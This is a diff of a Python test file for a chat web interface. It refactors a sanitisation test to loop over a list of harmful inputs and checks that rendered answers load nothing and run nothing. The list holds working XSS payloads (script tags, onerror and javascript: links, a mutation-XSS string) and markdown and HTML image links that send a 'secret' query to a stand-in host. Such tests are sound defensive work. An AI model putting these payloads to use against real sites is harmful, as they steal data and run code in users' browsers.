@@ -339,52 +339,50 @@ async def test_answers_are_read_as_markdown(chat: Chat) -> None:
     assert chat.tab.errors == []
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "![a picture](http://elsewhere.test/?q=secret)",
-        '<img src="http://elsewhere.test/?q=secret">',
-        "![a](data:image/png;base64,AA==)",
-        "[![a](http://elsewhere.test/a)](http://elsewhere.test/b)",
-        '<svg><image href="http://elsewhere.test/c"/></svg>',
-        '<p style="background: url(http://elsewhere.test/d)">x</p>',
-        '<link rel="preload" href="http://elsewhere.test/e">',
-        '<form action="http://elsewhere.test"><input name="a"></form>',
-        "[a](javascript:alert(1))",
-        "[a](JaVaScRiPt&colon;alert(1))",
-        "[a](data:text/html,<script>alert(1)</script>)",
-        "<iframe src=http://elsewhere.test></iframe>",
-        "<script>alert(1)</script>",
-        '<a href="https://example.com" onclick="alert(1)">b</a>',
-        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-        "`<img src=x onerror=alert(1)>`",
-    ],
+HARMFUL = (
+    "![a picture](http://elsewhere.test/?q=secret)",
+    '<img src="http://elsewhere.test/?q=secret">',
+    "![a](data:image/png;base64,AA==)",
+    "[![a](http://elsewhere.test/a)](http://elsewhere.test/b)",
+    '<svg><image href="http://elsewhere.test/c"/></svg>',
+    '<p style="background: url(http://elsewhere.test/d)">x</p>',
+    '<link rel="preload" href="http://elsewhere.test/e">',
+    '<form action="http://elsewhere.test"><input name="a"></form>',
+    "[a](javascript:alert(1))",
+    "[a](JaVaScRiPt&colon;alert(1))",
+    "[a](data:text/html,<script>alert(1)</script>)",
+    "<iframe src=http://elsewhere.test></iframe>",
+    "<script>alert(1)</script>",
+    '<a href="https://example.com" onclick="alert(1)">b</a>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "`<img src=x onerror=alert(1)>`",
 )
-async def test_nothing_an_answer_holds_is_loaded_or_run(chat: Chat, text: str) -> None:
+
+
+async def test_nothing_an_answer_holds_is_loaded_or_run(chat: Chat) -> None:
     await chat.open()
     await chat.choose("demo/echo")
-    await chat.send(text)
-    await chat.answer()
-    kinds = await chat.tab.evaluate(
-        f"[...new Set([...{LAST_TURN}.querySelectorAll('.text *')].map((e) => e.localName))]"
-    )
-    assert set(kinds) <= {"p", "a", "code"}
-    links = await chat.tab.evaluate(
-        f"[...{LAST_TURN}.querySelectorAll('.text a')].map((a) => a.getAttribute('href'))"
-    )
-    assert [href for href in links if href and not href.startswith("http")] == []
-    assert (
-        await chat.tab.evaluate(
-            f"[...{LAST_TURN}.querySelectorAll('.text *')].flatMap((e) => [...e.attributes])"
+    for text in HARMFUL:
+        await chat.send(text)
+        await chat.answer()
+        within = f"[...{LAST_TURN}.querySelectorAll('.text *')]"
+        kinds = await chat.tab.evaluate(f"[...new Set({within}.map((e) => e.localName))]")
+        assert set(kinds) <= {"p", "a", "code"}, text
+        links = await chat.tab.evaluate(
+            f"[...{LAST_TURN}.querySelectorAll('.text a')].map((a) => a.getAttribute('href'))"
+        )
+        assert [href for href in links if href and not href.startswith("http")] == []
+        others = await chat.tab.evaluate(
+            f"{within}.flatMap((e) => [...e.attributes])"
             ".filter(({ name }) => !['href', 'rel', 'target'].includes(name)).length"
         )
-        == 0
-    )
-    loaded = await chat.tab.evaluate(
-        "performance.getEntriesByType('resource').map((e) => new URL(e.name).hostname)"
-    )
-    assert set(loaded) == {"127.0.0.1"}
-    assert chat.tab.errors == []
+        assert others == 0, text
+        loaded = await chat.tab.evaluate(
+            "performance.getEntriesByType('resource').map((e) => new URL(e.name).hostname)"
+        )
+        assert set(loaded) == {"127.0.0.1"}, text
+        assert chat.tab.errors == []
+        await chat.tab.evaluate("document.querySelector('#new').click()")
 
 
 async def test_what_is_selected_while_an_answer_is_written_stays_selected(chat: Chat) -> None:
